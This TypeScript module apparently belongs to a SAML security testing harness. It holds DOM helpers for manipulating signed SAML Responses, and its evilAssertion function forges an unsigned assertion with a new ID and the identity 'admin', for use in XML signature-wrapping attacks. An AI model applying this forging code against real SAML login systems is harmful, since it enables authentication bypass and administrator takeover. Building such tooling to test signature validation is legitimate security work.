// DOM helpers for surgery on genuine Responses (@xmldom/xmldom): parse/serialize, navigation, the forged assertion.
import { NS } from '@samlbridge/protocol';
import { DOMParser, type Document, type Element, XMLSerializer } from '@xmldom/xmldom';

const parser = () =>
  new DOMParser({
    onError: (level: string, msg: string) => {
      if (level !== 'warning') throw new Error(msg);
    },
  });
export const parse = (xml: string): Document => parser().parseFromString(xml, 'text/xml');
export const serialize = (node: Document | Element): string => new XMLSerializer().serializeToString(node);

function children(el: Element, ns: string, name: string): Element[] {
  const out: Element[] = [];
  for (let n = el.firstChild; n; n = n.nextSibling) {
    if (n.nodeType === 1 && (n as Element).namespaceURI === ns && (n as Element).localName === name) out.push(n as Element);
  }
  return out;
}
export const child = (el: Element, ns: string, name: string) => children(el, ns, name)[0] as Element;
export const root = (doc: Document) => doc.documentElement as Element;
export const assertionOf = (doc: Document) => child(root(doc), NS.assertion, 'Assertion');
export const signatureOf = (el: Element) => child(el, NS.ds, 'Signature');
export const cloneEl = (el: Element) => el.cloneNode(true) as Element;

/** Signs the assertion in as `login`: its Subject's NameID and every `Username` attribute value. */
export function setIdentity(assertion: Element, login: string): void {
  const nameId = child(child(assertion, NS.assertion, 'Subject') ?? assertion, NS.assertion, 'NameID');
  if (nameId) nameId.textContent = login;
  for (const attribute of children(child(assertion, NS.assertion, 'AttributeStatement') ?? assertion, NS.assertion, 'Attribute')) {
    if (attribute.getAttribute('Name') !== 'Username') continue;
    for (const value of children(attribute, NS.assertion, 'AttributeValue')) value.textContent = login;
  }
}

/** The forged assertion every wrapping attack wants accepted: same shape, unsigned, a new ID, signed in as admin. */
export function evilAssertion(original: Element, id = '_evil'): Element {
  const forged = cloneEl(original);
  const signature = signatureOf(forged);
  if (signature) forged.removeChild(signature);
  forged.setAttribute('ID', id);
  setIdentity(forged, 'admin');
  return forged;
}

export function insertAfter(parent: Element, node: Element, ref: Element): void {
  parent.insertBefore(node, ref.nextSibling);
}

export function dsObject(doc: Document, content: Element): Element {
  const object = doc.createElementNS(NS.ds, 'ds:Object');
  object.appendChild(content);
  return object;
}
